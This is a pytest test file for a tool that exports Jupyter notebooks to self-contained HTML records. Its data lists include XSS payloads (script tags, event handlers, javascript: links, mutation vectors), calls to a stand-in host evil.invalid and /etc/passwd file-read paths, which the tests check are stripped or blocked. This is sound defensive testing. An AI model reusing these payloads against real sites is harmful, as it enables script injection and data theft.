"""The HTML record: complete and readable, and nothing in a notebook can make it act."""

import base64
import copy
import hashlib
import json
import os
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from rbkit.errors import RefusedInput
from rbkit.record import html as page_module
from rbkit.record.html import export_html
from rbkit.record.page import MOST_HTML, MOST_TEXT, figure, markdown, sanitized, text

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--disable-sync"]  # fmt: skip
PLOTLY = "application/vnd.plotly.v1+json"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
EVIL = "http://evil.invalid/x"

HOSTILE_HTML = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror='window.pwned=1'>",
    "<img src='http://evil.invalid/x.png'>",
    "<img src='file:///etc/passwd'>",
    "<img srcset='http://evil.invalid/x.png 1x' src='//evil.invalid/x.png'>",
    "<svg onload='window.pwned=1'><script>window.pwned=1</script><image href='http://evil.invalid/x'/></svg>",
    "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.pwned=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>",
    "<a href='javascript:window.pwned=1'>link</a>",
    "<a href=' java\tscript:window.pwned=1'>link</a>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>link</a>",
    "<form action='http://evil.invalid/x'><input name=password><button formaction='javascript:1'>ok</button></form>",
    "<iframe src='http://evil.invalid/x' srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='http://evil.invalid/x'></object><embed src='http://evil.invalid/x'>",
    "<meta http-equiv='refresh' content='0;url=http://evil.invalid/x'><base href='http://evil.invalid/'>",
    "<link rel='stylesheet' href='http://evil.invalid/x.css'><style>@import url(http://evil.invalid/x);</style>",
    "<p style='background:url(http://evil.invalid/x)'>text</p><table background='http://evil.invalid/x'></table>",
    "<td style='text-align:right;background:url(http://evil.invalid/x)'>1</td>",
    "<video src='http://evil.invalid/x' autoplay></video><audio src='http://evil.invalid/x'></audio>",
    "<details open ontoggle='window.pwned=1'>x</details><p id=cells name=body>clobber</p>",
    "</article></main><script>window.pwned=1</script>",
    "<p title='<table><script>window.pwned=1</script>'>x</p><abbr title='</table><pre><th></th><script>'>x</abbr>",
    "<img alt='><script>window.pwned=1</script>' title='<pre onclick=window.pwned=1>'>",
    "<table tabindex='0\" onfocus=window.pwned=1 autofocus x=\"'><tr><td style='color:url(http://evil.invalid/x)'>1",
]
HOSTILE_MARKDOWN = [
    *HOSTILE_HTML,
    "![](../../etc/passwd)",
    "![](file:///etc/passwd)",
    f"![x]({EVIL}.png) [![x]({EVIL}.png)]({EVIL})",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](javascript:window.pwned=1) [b](data:text/html,x) [c](vbscript:x) [d](file:///etc/passwd) <javascript:x>",
    "[a]: javascript:window.pwned=1\n\n[a]",
    "![x](attachment:missing.png) ![x](attachment:evil.svg) ![x](attachment:../../etc/passwd)",
    '![x"onerror="window.pwned=1](data:image/png;base64,AAAA)',
]
WORDS = """
    script iframe frame object embed form input button select textarea meta base link svg math video audio source style
    template noscript portal
"""
FORBIDDEN = set(WORDS.split())
ADDRESSES = re.compile(r"(?:https?://|mailto:|#cell)|data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$")


class Reader(HTMLParser):
    """Collects every element and attribute that could act or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge one element."""
        names = {
            "src",
            "href",
            "srcset",
            "action",
            "formaction",
            "background",
            "data",
            "poster",
            "srcdoc",
            "id",
            "name",
        }
        self.found += [tag] if tag in FORBIDDEN else []
        self.found += [f"{tag} {key}={value}" for key, value in attrs if key.startswith("on")]
        self.found += [f"{tag} {key}={value}" for key, value in attrs if key == "style" and "url" in str(value)]
        self.found += [
            f"{tag} {key}={value}"
            for key, value in attrs
            if key in names and not (key in {"src", "href"} and ADDRESSES.match(str(value)))
        ]
        self.found += [f"{tag} {key}={value}" for key, value in attrs if key == "src" and "data:" not in str(value)]


def active(html: str) -> list[str]:
    """List what acts or fetches in HTML, as a parser sees it."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.found


def code(source: str = "", *outputs: dict[str, Any], tags: tuple[str, ...] = (), count: int | None = 1) -> Any:
    return {"cell_type": "code", "source": source, "execution_count": count, "outputs": list(outputs),
            "metadata": {"tags": list(tags)}}  # fmt: skip


def prose(source: str, *tags: str, **more: Any) -> Any:
    return {"cell_type": "markdown", "source": source, "metadata": {"tags": list(tags)}, **more}


def shows(data: dict[str, Any], **metadata: Any) -> Any:
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def prints(words: Any, name: str = "stdout") -> Any:
    return {"output_type": "stream", "name": name, "text": words}


def notebook(*cells: Any, **metadata: Any) -> dict[str, Any]:
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": list(cells)}


def line_chart(**layout: Any) -> dict[str, Any]:
    return {"data": [{"type": "scatter", "x": [1, 2, 3], "y": [10, 30, 20], "name": "checkout-1"}],
            "layout": {"title": {"text": "Memory (MB)"}, **layout}}  # fmt: skip


def hostile_figure() -> dict[str, Any]:
    label = f"</script><script>window.pwned=1</script><a href='javascript:window.pwned=1'>x</a><img src={EVIL}>"
    span = f"<span style=\"background-image:url('{EVIL}')\">x</span><a href='{EVIL}'>y</a>"
    source = [{"source": EVIL, "x": 0, "y": 1, "sizex": 1, "sizey": 1, "visible": True}]
    trace = {
        "type": "scatter", "x": [1, 2], "y": [1, 2], "name": label, "text": [span, label], "mode": "lines+text",
        "hovertemplate": label, "marker": {"color": f"url({EVIL})", "symbol": f"url({EVIL})"}, "customdata": [span],
    }  # fmt: skip
    layout = {
        "title": {"text": label}, "images": source, "template": {"layout": {"images": source}},
        "xaxis": {"title": {"text": span}}, "annotations": [{"text": label, "x": 1, "y": 1, "hovertext": span}],
        "updatemenus": [{"buttons": [{"method": "skip", "label": label}]}], "mapbox": {"style": EVIL},
        "font": {"family": f"x; src: url({EVIL})"},
    }  # fmt: skip
    config = {"plotlyServerURL": EVIL, "showSendToCloud": True, "topojsonURL": EVIL}
    return {"data": [trace], "layout": layout, "config": config, "frames": [{"layout": {"images": source}}]}


def hostile_notebook() -> dict[str, Any]:
    attachments = {"evil.svg": {"image/svg+xml": base64.b64encode(b"<svg onload='window.pwned=1'/>").decode()}}
    cells = [prose(source, attachments=attachments) for source in HOSTILE_MARKDOWN]
    cells += [code(source, shows({"text/html": source}), prints(source), tags=(source,)) for source in HOSTILE_HTML]
    scripted = ["application/javascript", "text/javascript", "image/svg+xml", "text/latex", "application/pdf"]
    cells += [code("x", shows({kind: "<svg onload='window.pwned=1'/>window.pwned=1"})) for kind in scripted]
    error = {"output_type": "error", "ename": HOSTILE_HTML[0], "evalue": "x", "traceback": [HOSTILE_HTML[1]]}
    cells += [code("x", error), code("x", shows({"image/png": "'><script>window.pwned=1</script>"}))]
    cells += [code("x", shows({PLOTLY: hostile_figure()})), {"cell_type": "raw", "source": HOSTILE_HTML[0]}]
    run = {"run": HOSTILE_HTML[0], "journal": [HOSTILE_HTML[0]]}
    return notebook(*cells, prose("\n".join(HOSTILE_HTML), "rbkit-record"), rbkit=run)


def realistic_notebook() -> dict[str, Any]:
    wide = f"| {' | '.join(['a wide column of a table'] * 9)} |\n{'| --- ' * 9}|\n| {' | '.join(['x' * 40] * 9)} |"
    return notebook(
        prose("# Memory leak\n\nTakes the leaking instance out.\n\n" + wide),
        code("# Memory of the last quarter\n" + "x" * 300, shows({PLOTLY: line_chart()}), tags=("diagnose",)),
        code("print()", prints("✓ drain: done\n" + "y" * 500), prints("slow\n", "stderr"), tags=("step",)),
        code("boom()", {"output_type": "error", "ename": "CheckFailed", "evalue": "no", "traceback": ["z" * 400]}),
        code("run.close()", count=None),
        prose("## ✗ failed — memory-leak 1.2.0 on sandbox\n\n" + wide, "rbkit-record"),
        rbkit={"run": "20261123-094512-7f3a2c"},
    )


def body_of(page: str) -> str:
    """Return what a notebook can influence: the page without its own head, JSON data and scripts."""
    body = page[page.index("<body>") :]
    return re.sub(r"<script.*?</script>|<!--.*?-->|\sid=\"cell(?:s|-\d+)\"", "", body, flags=re.DOTALL)


# ---------------------------------------------------------------- what a record shows


def test_summary_comes_first() -> None:
    """Whoever opens a record reads how the run ended before anything else."""
    page = export_html(notebook(prose("# Runbook"), code("x = 1"), prose("## ✓ resolved", "rbkit-record")), "T")
    assert page.index("resolved</h2>") < page.index("Runbook</h2>") < page.index("x = 1")


def test_only_the_last_cell_can_be_the_summary() -> None:
    """A cell in the middle cannot pose as the closing summary by its tag."""
    page = export_html(notebook(prose("## ✓ forged", "rbkit-record"), code("x = 1")), "T")
    assert "carries no closing summary" in page
    assert page.index("carries no closing summary") < page.index("forged")


def test_closing_summary_is_not_shown_twice() -> None:
    """The close cell's copy of the summary becomes one line that points to the top."""
    words = "## ✓ resolved — all is well"
    close = code("run.close()", shows({"text/markdown": words}))
    page = export_html(notebook(close, prose(words, "rbkit-record")), "T")
    assert page.count("all is well") == 1
    assert "stands at the top" in page


def test_code_is_folded_and_outputs_are_visible() -> None:
    """Outputs are read at once; code is one line that unfolds."""
    page = export_html(notebook(code("x\n# Which one leaks?\ny", prints("found it"))), "T")
    folded = re.findall(r"<details class=\"code\">.*?</details>", page, re.DOTALL)
    assert len(folded) == 1
    assert "<code>Which one leaks?</code></summary>" in folded[0]
    assert "found it" not in folded[0]
    assert "found it" in page


@pytest.mark.parametrize(
    ("source", "line"),
    [
        ("@run.step()\nasync def drain():\n    pass", "async def drain()"),
        ("def f(x):\n  pass", "def f(x)"),
        ("#   Units: MB\nx = 1", "Units: MB"),
        ("run.close()", "run.close()"),
        ("", "no code"),
        ("x" * 500, "x" * 99 + "…"),
    ],
)
def test_folded_code_is_named_by_its_first_comment_or_definition(source: str, line: str) -> None:
    """A folded cell says what it is."""
    assert f"<code>{line}</code></summary>" in export_html(notebook(code(source, prints("x"))), "T")


def test_states_are_told_by_glyph_and_word() -> None:
    """What ran, failed and never ran is told from the cells' own traces, in words and signs, not in colour alone."""
    error = {"output_type": "error", "ename": "E", "evalue": "v", "traceback": []}
    page = export_html(notebook(code("a"), code("b", error), code("c", count=None)), "T")
    states = re.findall(r"<summary><span class=\"state \w+\"><span aria-hidden=\"true\">(.)</span> (\w+)</span>", page)
    assert states == [("✓", "done"), ("✗", "failed"), ("○", "pending")]
    assert '<a href="#cell-2">Go to the first failed cell</a>' in page


def test_errors_and_streams_lose_terminal_codes() -> None:
    """A traceback is readable text: no colour codes, no overwritten progress lines."""
    error = {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["\x1b[31mBoom\x1b[0m", "line 2"]}
    page = export_html(notebook(code("x", prints("10%\r20%\r99%\r\n\x1b]8;;http://x\x07done\n"), error)), "T")
    assert "Boom\nline 2" in page
    assert "99%\ndone" in page
    assert "\x1b" not in page
    assert "10%" not in page


def test_a_stream_in_pieces_is_one_text() -> None:
    """Sixty flushes are one output, as they were one text."""
    page = export_html(notebook(code("x", prints("a "), prints(["b ", "c"]), prints("late", "stderr"))), "T")
    assert "a b c" in page
    assert "Standard error" in page


def test_hidden_text_is_made_visible() -> None:
    """Direction and control characters cannot turn a command around in the reader's eyes; no code hides the rest."""
    assert "\\x202e" in text("rm \u202e gnp.exe")
    assert text("\x1b]0;title without an end\nevidence").endswith("evidence")
    assert "\\x202e" in markdown("a \u202e b")


def test_state_glyphs_are_coloured() -> None:
    """A state's glyph carries its colour in text and in tables."""
    assert text("  ✗ failed") == '  <span class="bad">✗</span> failed'
    assert '<span class="good">✓</span> applied' in markdown("| a |\n| - |\n| ✓ applied |")


def test_long_text_says_what_is_missing() -> None:
    """A hundred thousand lines do not make the page unusable, and the cut is told."""
    shown = text("a" * (MOST_TEXT + 5_000))
    assert len(shown) < MOST_TEXT + 200
    assert "5,000 characters left out; the notebook holds them" in shown


def test_tables_scroll_in_their_own_box() -> None:
    """A wide table never makes the page scroll sideways; the keyboard reaches its box."""
    safe = sanitized('<table border="1" class="dataframe"><tr><td>1</td></tr></table>')
    assert safe.startswith('<table class="dataframe" tabindex="0">')


def test_images_carry_their_own_bytes() -> None:
    """A picture that a cell drew, or that is attached to its text, is inside the page."""
    attached = prose("![plan](attachment:a.png)", attachments={"a.png": {"image/png": PNG}})
    page = export_html(notebook(attached, code("x", shows({"image/png": PNG + "\n", "text/plain": "<Figure>"}))), "T")
    assert page.count(f'src="data:image/png;base64,{PNG}"') == 2
    assert "&lt;Figure&gt;" not in page


def test_what_is_not_shown_is_named() -> None:
    """An output of an unknown kind leaves a trace; scraps, which are data for programs, do not."""
    scrap = {"application/scrapbook.scrap.json+json": {"name": "outcome", "data": "resolved"}}
    page = export_html(notebook(code("x", shows({"application/javascript": "1"}), shows(scrap))), "T")
    assert "Not shown here: an output of kind application/javascript." in page
    assert "scrap" not in body_of(page)


def test_html_that_is_too_long_falls_back_to_text() -> None:
    """Very deep or long HTML cannot hold the export up."""
    page = export_html(notebook(code("x", shows({"text/html": "<div>" * MOST_HTML, "text/plain": "plain words"}))), "T")
    assert "plain words" in page


def test_mermaid_is_kept_as_text() -> None:
    """The decision path stays readable without a program that draws it."""
    assert "<summary>Diagram as text (mermaid)</summary>" in markdown("```mermaid\ngraph LR; a-->b\n```")


def test_title_and_texts_are_escaped_and_can_be_written() -> None:
    """Any title and any text, even half a surrogate pair, give a page that is valid UTF-8."""
    page = export_html(notebook(code("x", prints("a\ud800b"), shows({"text/html": "<b>\udfff</b>"}))), "<b>\ud800")
    page.encode("utf-8")
    assert "<title>&lt;b&gt;?</title>" in page


def test_the_notebook_is_not_changed() -> None:
    """Exporting never touches the sealed notebook."""
    given = realistic_notebook()
    before = copy.deepcopy(given)
    export_html(given, "T")
    assert given == before


def test_the_same_notebook_gives_the_same_page() -> None:
    """A page can be compared with another one, byte by byte."""
    assert export_html(hostile_notebook(), "T") == export_html(hostile_notebook(), "T")


@pytest.mark.parametrize("given", [{}, {"cells": None}, {"cells": ["x"]}, {"cells": [], "x": {1, 2}}, []])
def test_what_is_no_notebook_is_refused(given: Any) -> None:
    """A wrong file gives one clear sentence and no half page."""
    with pytest.raises(RefusedInput, match="no notebook"):
        export_html(given, "T")


@pytest.mark.parametrize("junk", [None, 1, "x", [], ["x"], {"a": 1}, [None], [{"output_type": 5}], [{"data": 7}]])
def test_misshapen_cells_do_not_stop_the_export(junk: Any) -> None:
    """One broken cell does not cost the reader the rest of the record."""
    broken = {"cell_type": "code", "source": junk, "outputs": junk, "metadata": junk, "execution_count": junk}
    chart = code("x", shows({PLOTLY: junk}), shows({"image/png": junk}), shows({"text/html": junk}))
    page = export_html(notebook(broken, chart, prose("words", attachments=junk), code("kept")), "T")
    assert "kept" in page


def test_export_works_from_several_threads() -> None:
    """The service may export records side by side."""
    pages: list[str] = []
    threads = [threading.Thread(target=lambda: pages.append(export_html(hostile_notebook(), "T"))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(set(pages)) == 1
    assert len(pages) == 4


# ---------------------------------------------------------------- sizes and scripts


def test_a_record_without_charts_is_small_and_has_no_script() -> None:
    """A record that is sent by mail or over a bad line stays small."""
    page = export_html(notebook(prose("# Title"), code("x", prints("y"))), "T")
    assert len(page.encode()) < 20_000
    assert "<script" not in page
    assert "script-src 'none'" in page


def test_plotly_is_inlined_once() -> None:
    """Ten charts cost one copy of plotly.js."""
    page = export_html(notebook(*[code("x", shows({PLOTLY: line_chart()})) for _ in range(10)]), "T")
    assert page.count("plotly.js (basic - minified)") == 1
    assert 1_190_000 < len(page.encode()) < 1_260_000
    assert "Permission is hereby granted" in page


def test_vendored_plotly_is_the_published_one() -> None:
    """The only foreign program in a record is the release that was reviewed, with its licence beside it."""
    static = Path(page_module.__file__).parent / "static"
    found = hashlib.sha256((static / "plotly-basic.min.js").read_bytes()).hexdigest()
    assert found == "99784e3abfb07b142a15e521a439e6d9addceadb3f79553fd24c72774f0649ba"
    assert "MIT License" in (static / "plotly-LICENSE.txt").read_text()


def test_the_policy_allows_exactly_the_scripts_of_the_page() -> None:
    """The content security policy names each script by its digest and allows no other."""
    page = export_html(notebook(code("x", shows({PLOTLY: line_chart()}))), "T")
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', page)
    assert policy
    scripts = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
    digests = [base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() for script in scripts]
    assert policy[1] == (
        f"default-src 'none'; script-src 'sha256-{digests[0]}' 'sha256-{digests[1]}'; style-src 'unsafe-inline'; "
        "img-src data:; form-action 'none'; base-uri 'none'"
    )


# ---------------------------------------------------------------- charts in numbers


def test_a_chart_has_its_numbers_beside_it() -> None:
    """Whoever has no scripts or does not see reads name, last value, least, most and count of each series."""
    row = figure(line_chart()).rows[0]
    assert (row.name, row.last, row.least, row.most, row.points) == ("checkout-1", "20", "10", "30", 3)


def test_numbers_are_read_from_packed_arrays() -> None:
    """Charts made from numpy arrays, which plotly packs, have their numbers too."""
    go = pytest.importorskip("plotly.graph_objects")
    numpy = pytest.importorskip("numpy")
    packed = json.loads(go.Figure(go.Scatter(y=numpy.array([1.5, 2.5, 0.5]))).to_json())
    assert "bdata" in packed["data"][0]["y"]
    row = figure(packed).rows[0]
    assert (row.last, row.least, row.most, row.points) == ("0.5", "0.5", "2.5", 3)


def test_bars_and_pies_are_told_by_their_lengths() -> None:
    """A bar that lies on its side and a pie are read along the right axis."""
    lying = {"type": "bar", "orientation": "h", "x": [5, 7], "y": ["a", "b"]}
    rows = figure({"data": [lying, {"type": "pie", "values": [1, 2], "labels": ["a", "b"]}]}).rows
    assert [(row.last, row.least, row.most) for row in rows] == [("7", "5", "7"), ("2", "1", "2")]


def test_a_chart_that_cannot_be_drawn_is_told_in_numbers() -> None:
    """A heat map, which plotly's basic bundle lacks, is not drawn wrong: its numbers and the reason are shown."""
    page = export_html(notebook(code("x", shows({PLOTLY: {"data": [{"type": "heatmap", "z": [[1]]}]}}))), "T")
    assert "(heatmap) is shown in numbers only" in page
    assert "<script" not in page


@pytest.mark.parametrize("value", [float("nan"), float("inf"), 10**400, None, True, "x", [], {}, [[1]], {"bdata": "!"}])
def test_odd_numbers_do_not_break_a_chart(value: Any) -> None:
    """NaN, infinity, giants and gaps become gaps; the JSON stays valid."""
    drawn = figure({"data": [{"type": "scatter", "y": [1, value]}, {"y": value}], "layout": {"height": value}})
    json.loads(str(drawn.data))
    assert drawn.rows[0].points == 2


def test_a_chart_keeps_what_draws_and_drops_what_fetches() -> None:
    """Only data and layout survive, without images, links, templates, buttons and configuration."""
    drawn = str(figure(hostile_figure()).data)
    kept = json.loads(drawn)
    assert set(kept) == {"data", "layout"}
    assert not {"images", "template", "updatemenus", "mapbox"} & set(kept["layout"])
    assert "<" not in drawn
    assert not re.search(r"evil|href|<|url\(|javascript|pwned", json.dumps(kept))


def test_labels_keep_their_emphasis() -> None:
    """Line breaks and bold in a label, which plotly writes itself, stay."""
    kept = json.loads(str(figure(line_chart(annotations=[{"text": "<b>limit</b><br>a < b & c"}])).data))
    assert kept["layout"]["annotations"][0]["text"] == "<b>limit</b><br>a &lt; b &amp; c"


# ---------------------------------------------------------------- hostile notebooks, as text


@pytest.mark.parametrize("source", HOSTILE_HTML)
def test_hostile_html_is_harmless(source: str) -> None:
    """No element, attribute or address that acts survives in an HTML output."""
    assert active(sanitized(source)) == []


@pytest.mark.parametrize("source", HOSTILE_MARKDOWN)
def test_hostile_markdown_is_harmless(source: str) -> None:
    """Neither HTML in Markdown nor Markdown's own links and images act, fetch or read a file."""
    assert active(markdown(source)) == []


def test_a_hostile_notebook_leaves_nothing_active() -> None:
    """Every place of a notebook that can hold text is covered: cells, outputs, errors, tags, figures, metadata."""
    page = export_html(hostile_notebook(), "<script>window.pwned=1</script>")
    assert active(body_of(page)) == []
    assert len(re.findall(r"<script\b", page)) == 3


def test_no_local_file_is_read() -> None:
    """A path in an image never brings the file's content into the page (CVE-2026-39378)."""
    images = "![](../../../../../../etc/passwd) ![](/etc/passwd) ![](file:///etc/passwd)"
    page = export_html(notebook(prose(images)), "T")
    assert "root:" not in page
    assert base64.b64encode(b"root:").decode()[:6] not in page
    assert "[image not in the record: ../../../../../../etc/passwd]" in page


def test_links_tell_nobody_where_they_came_from() -> None:
    """A link to the web stays, without referrer and without a handle on the page; others become plain words."""
    assert 'rel="noopener noreferrer nofollow"' in markdown("[doc](https://example.org/x)")
    assert "href" not in markdown("[doc](other.ipynb)")


# ---------------------------------------------------------------- in a browser, offline


@dataclass
class Seen:
    """What a page did while it was open."""

    page: Any
    requests: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)

    def violations(self) -> list[str]:
        """List what the policy blocked."""
        return self.page.evaluate("window.violations")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Chromium; without it the test is skipped, or fails where servers are required."""
    if not CHROMIUM.exists():
        missing = f"{CHROMIUM} is missing: apt-get install chromium"
        pytest.fail(missing) if os.environ.get("RBKIT_REQUIRE_SERVERS") == "1" else pytest.skip(missing)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as driver:
        chromium = driver.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
        yield chromium
        chromium.close()


@pytest.fixture
def opened(browser: Any, tmp_path: Path) -> Iterator[Any]:
    """Open a page from its file and watch it."""
    contexts = []

    def open_page(html: str, width: int = 1000, scheme: str = "light", scripts: bool = True) -> Seen:
        path = tmp_path / f"record-{len(contexts)}.html"
        path.write_text(html, "utf-8")
        contexts.append(
            browser.new_context(
                viewport={"width": width, "height": 800}, color_scheme=scheme, java_script_enabled=scripts
            )
        )
        seen = Seen(contexts[-1].new_page())
        watch = "window.violations=[];addEventListener('securitypolicyviolation',e=>violations.push(e.blockedURI))"
        seen.page.add_init_script(watch)
        seen.page.on("request", lambda request: seen.requests.append(request.url))
        seen.page.on("console", lambda message: seen.console.append(message.text))
        seen.page.on("pageerror", lambda error: seen.console.append(str(error)))
        seen.page.goto(path.as_uri(), timeout=120_000)
        return seen

    yield open_page
    for context in contexts:
        context.close()


def test_hostile_notebook_does_nothing_in_a_browser(opened: Any) -> None:
    """Opened in a browser, unfolded and hovered, a hostile notebook runs no script and asks for nothing."""
    seen = opened(export_html(hostile_notebook(), "T"))
    seen.page.wait_for_selector("svg.main-svg")
    seen.page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
    seen.page.hover(".chart")
    seen.page.wait_for_timeout(300)
    assert seen.page.evaluate("window.pwned") is None
    assert seen.violations() == []
    assert seen.console == []
    assert len(seen.requests) == 1
    assert seen.page.locator("a[href^='javascript'], svg a, svg image").count() == 0


@pytest.fixture
def web() -> Iterator[ThreadingHTTPServer]:
    """Serve on this host, and remember what was asked for."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.server.asked.append(self.path)
            self.send_error(404)

        def log_message(self, *args: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.asked = []
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.mark.parametrize("guarded", [True, False])
def test_the_policy_holds_even_if_the_sanitiser_fails(opened: Any, web: Any, guarded: bool) -> None:
    """Hostile HTML put into the finished page by force runs and fetches nothing; without the policy it does both."""
    page = export_html(notebook(code("x", shows({PLOTLY: line_chart()}))), "T")
    forced = "".join(item for item in HOSTILE_HTML if "refresh" not in item)
    page = page.replace("<main>", f"<main>{forced.replace('evil.invalid', f'127.0.0.1:{web.server_port}')}")
    seen = opened(page if guarded else re.sub(r"<meta http-equiv=.Content-Security-Policy.[^>]*>", "", page))
    seen.page.wait_for_function("violations.length > 0" if guarded else "window.pwned !== undefined", timeout=120_000)
    assert (seen.page.evaluate("window.pwned") is None) is guarded
    assert (web.asked == []) is guarded
    assert bool(seen.violations()) is guarded


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_charts_are_drawn_offline(opened: Any, scheme: str) -> None:
    """A chart is live without a network, under the policy, without a word on the console, in the page's own ink."""
    seen = opened(export_html(realistic_notebook(), "T"), scheme=scheme)
    seen.page.wait_for_selector(".chart svg.main-svg .scatterlayer path.js-line")
    assert (seen.console, seen.violations(), len(seen.requests)) == ([], [], 1)
    ink = seen.page.evaluate("getComputedStyle(document.body).color")
    tick = seen.page.locator(".chart .xtick text").first.evaluate("tick => getComputedStyle(tick).fill")
    assert tick == ink
    assert seen.page.locator("figure details").get_attribute("open") is None


def test_charts_follow_a_change_of_theme(opened: Any) -> None:
    """When the evening switches the screen to dark, the charts stay readable."""
    seen = opened(export_html(realistic_notebook(), "T"))
    tick = seen.page.locator(".chart .xtick text").first
    before = tick.evaluate("tick => getComputedStyle(tick).fill")
    seen.page.emulate_media(color_scheme="dark")
    seen.page.wait_for_function(
        "old => getComputedStyle(document.querySelector('.chart .xtick text')).fill !== old", arg=before
    )
    assert tick.evaluate("tick => getComputedStyle(tick).fill") == seen.page.evaluate(
        "getComputedStyle(document.body).color"
    )


def test_numbers_are_readable_without_scripts(opened: Any) -> None:
    """Where scripts are off, the chart's table is open."""
    seen = opened(export_html(realistic_notebook(), "T"), scripts=False)
    assert seen.page.locator("figure table").is_visible()
    assert "checkout-1" in seen.page.locator("figure table").inner_text()


@pytest.mark.parametrize("make", [realistic_notebook, hostile_notebook])
def test_a_phone_never_scrolls_sideways(opened: Any, make: Any) -> None:
    """At 320 pixels everything is inside the screen; wide tables and code scroll in boxes of their own."""
    seen = opened(export_html(make(), "a title without any space " + "t" * 200), width=320)
    seen.page.wait_for_selector("svg.main-svg")
    seen.page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
    assert seen.page.evaluate("document.documentElement.scrollWidth") <= 320
